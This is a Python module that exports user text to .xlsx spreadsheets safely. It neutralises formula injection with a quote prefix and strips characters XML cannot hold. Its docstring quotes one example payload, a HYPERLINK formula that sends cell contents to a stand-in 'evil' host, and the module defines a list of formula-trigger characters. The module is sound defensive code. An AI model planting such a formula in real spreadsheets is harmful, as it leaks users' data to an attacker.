"""Safe, streaming spreadsheets (.xlsx) with openpyxl's write-only mode.

Two dangers of exporting user-entered text to a spreadsheet, and what this module does:

1. Formula injection (OWASP, "CSV Injection" / "Formula Injection",
   https://owasp.org/www-community/attacks/CSV_Injection): a cell whose text begins with
   ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage return) may be evaluated as a formula by
   the spreadsheet program, e.g. ``=HYPERLINK("http://evil/?"&A1, "点击")``. OWASP's remedy is
   to prefix such a cell with a single quote ``'``; :func:`safe_cell` does that. We chose the
   visible prefix over only marking the cell as a string (openpyxl writes every ``str`` that
   does not start with ``=`` as an inline string, never as a formula): the prefix also protects
   the text after the file has been re-saved as CSV or pasted into another sheet, and it is
   what WPS, LibreOffice and Excel all understand. The cell is a string cell either way.
   Also guarded: line feed and the other control characters, the full-width forms ``＝＋－＠``
   (an input method may produce them and some programs normalise them), and any of these after
   leading spaces (ordinary or ideographic ``\\u3000``).
2. Characters XML 1.0 cannot hold: NUL and the other C0 controls except tab, line feed and
   carriage return (``openpyxl.cell.cell.ILLEGAL_CHARACTERS_RE``) are removed, since openpyxl
   refuses them (``IllegalCharacterError``) and Excel would reject the file.

Datetimes: the xlsx format has no time zones. Aware datetimes are written as naive local
time of ``settings.TIME_ZONE`` (Asia/Shanghai), whole seconds, with the number format
``yyyy-mm-dd hh:mm``; naive datetimes are refused (``ValueError``), as everywhere in the project.

Memory: :func:`write_workbook` uses ``Workbook(write_only=True)``: each row is serialised to a
temporary file as soon as it is appended and strings are written inline (openpyxl 3.1 keeps no
shared-strings table in this mode), so memory does not grow with the number of rows.

This module imports no app (``core`` rule).
"""

from __future__ import annotations

import contextlib
import math
from collections.abc import Iterable, Sequence
from datetime import date, datetime
from decimal import Decimal
from typing import IO, Any

from django.utils import timezone
from openpyxl import Workbook
from openpyxl.cell import WriteOnlyCell
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
from openpyxl.styles import Alignment, Font, PatternFill
from openpyxl.utils import get_column_letter

__all__ = [
    "DATETIME_FORMAT",
    "DATE_FORMAT",
    "FORMULA_TRIGGERS",
    "MAX_CELL_CHARS",
    "XLSX_CONTENT_TYPE",
    "safe_cell",
    "safe_sheet_title",
    "write_workbook",
]

XLSX_CONTENT_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"

#: First characters that make a spreadsheet program treat a cell as a formula (OWASP list:
#: = + - @ tab CR), plus line feed and the full-width forms of = + - @.
FORMULA_TRIGGERS = frozenset("=+-@\t\r\n＝＋－＠")
_LEADING_BLANKS = " \u3000"

#: Excel's limit on the characters in one cell.
MAX_CELL_CHARS = 32767

DATETIME_FORMAT = "yyyy-mm-dd hh:mm"
DATE_FORMAT = "yyyy-mm-dd"

# Characters a sheet title may not contain, and Excel's length limit for it.
_TITLE_FORBIDDEN = str.maketrans({c: "_" for c in "[]:*?/\\"})
_TITLE_MAX = 31


def safe_cell(value: Any) -> Any:
    """``value`` made safe to put in a spreadsheet cell.

    - ``None``, ``bool``, ``int``, finite ``float`` and ``Decimal``, and ``date``: unchanged.
    - ``datetime``: aware only (``ValueError`` for a naive one); returned naive in local time
      of ``settings.TIME_ZONE`` (Asia/Shanghai), without microseconds.
    - ``str`` (and anything else, through ``str()``; non-finite floats too): the characters
      openpyxl refuses (``ILLEGAL_CHARACTERS_RE``: NUL and other C0 controls except tab, LF,
      CR) are removed; if the text then begins, possibly after spaces, with one of
      :data:`FORMULA_TRIGGERS`, it is prefixed with ``'`` (OWASP "CSV Injection"); finally it
      is cut to Excel's :data:`MAX_CELL_CHARS`.
    """
    if value is None or isinstance(value, bool | int | Decimal):
        return value
    if isinstance(value, float):
        return value if math.isfinite(value) else safe_cell(str(value))
    if isinstance(value, datetime):
        if timezone.is_naive(value):
            raise ValueError("Naive datetimes cannot be exported; pass an aware datetime.")
        local = timezone.localtime(value, timezone.get_default_timezone())
        return local.replace(tzinfo=None, microsecond=0)
    if isinstance(value, date):
        return value
    text = ILLEGAL_CHARACTERS_RE.sub("", value if isinstance(value, str) else str(value))
    if text and (
        text[0] in FORMULA_TRIGGERS
        or (text[0] in _LEADING_BLANKS and text.lstrip(_LEADING_BLANKS)[:1] in FORMULA_TRIGGERS)
    ):
        text = "'" + text
    return text[:MAX_CELL_CHARS]


def safe_sheet_title(title: str) -> str:
    """A valid sheet title: ``[]:*?/\\`` replaced by ``_``, at most 31 characters, never
    empty (``"Sheet1"``)."""
    cleaned = ILLEGAL_CHARACTERS_RE.sub("", str(title)).translate(_TITLE_FORBIDDEN).strip("'")
    return cleaned[:_TITLE_MAX] or "Sheet1"


def _width(header: str) -> float:
    # Column widths are in widths of "0"; a CJK character takes about two.
    return max(10.0, sum(2 if ord(ch) > 0x2E7F else 1 for ch in header) + 4.0)


def _discard(ws) -> None:
    """Close an abandoned write-only sheet and delete its temporary file now (openpyxl
    would delete it only when the process exits)."""
    with contextlib.suppress(Exception):
        ws.close()
    writer = getattr(ws, "_writer", None)
    if writer is not None:
        with contextlib.suppress(Exception):
            writer.cleanup()


def write_workbook(
    out: IO[bytes],
    headers: Sequence[str],
    rows: Iterable[Sequence[Any]],
    *,
    sheet_title: str,
    column_widths: Sequence[float | None] | None = None,
) -> int:
    """Write one sheet (a header row, then ``rows``) as an .xlsx file to the binary file-like
    ``out``; return the number of data rows written.

    Every value passes through :func:`safe_cell`. The header row is bold on a grey fill,
    frozen, and carries an auto-filter over the written range. ``column_widths`` (in
    character widths; ``None`` entries, or no list, mean "from the header") is applied to
    the columns in order. Datetime cells get :data:`DATETIME_FORMAT`, date cells
    :data:`DATE_FORMAT`.

    Memory stays roughly constant in the number of rows (write-only mode: rows go to a
    temporary file as they are appended; the zip is assembled into ``out`` at the end, so
    ``out`` is written only once all rows are done; an exception from ``rows`` leaves
    ``out`` untouched and removes the temporary file). Raises ``ValueError`` for a naive
    datetime in ``rows``.
    """
    wb = Workbook(write_only=True)
    wb.properties.creator = "Wenming"
    ws = wb.create_sheet(safe_sheet_title(sheet_title))
    headers = [safe_cell(str(h)) for h in headers]
    ncols = len(headers)
    widths = list(column_widths or [])
    for idx, header in enumerate(headers, 1):
        width = widths[idx - 1] if idx <= len(widths) else None
        ws.column_dimensions[get_column_letter(idx)].width = width or _width(header)
    ws.freeze_panes = "A2"

    bold = Font(bold=True)
    fill = PatternFill("solid", fgColor="D9D9D9")
    centre = Alignment(horizontal="center", vertical="center")
    header_cells = []
    for header in headers:
        cell = WriteOnlyCell(ws, value=header)
        cell.font, cell.fill, cell.alignment = bold, fill, centre
        header_cells.append(cell)
    ws.append(header_cells)

    # One styled cell per column and kind, reused for every row: openpyxl writes each
    # cell as soon as it is yielded, so reuse is safe and saves a style lookup per value.
    styled: dict[tuple[int, type], WriteOnlyCell] = {}

    def dated(col: int, value: date) -> WriteOnlyCell:
        kind = datetime if isinstance(value, datetime) else date
        cell = styled.get((col, kind))
        if cell is None:
            cell = WriteOnlyCell(ws)
            cell.number_format = DATETIME_FORMAT if kind is datetime else DATE_FORMAT
            styled[(col, kind)] = cell
        cell.value = value
        return cell

    count = 0
    try:
        for row in rows:
            values = [safe_cell(v) for v in row]
            ws.append([dated(i, v) if isinstance(v, date) else v for i, v in enumerate(values)])
            count += 1
    except BaseException:
        _discard(ws)
        raise

    last = get_column_letter(max(ncols, 1))
    ws.auto_filter.ref = f"A1:{last}{count + 1}"
    wb.save(out)
    return count
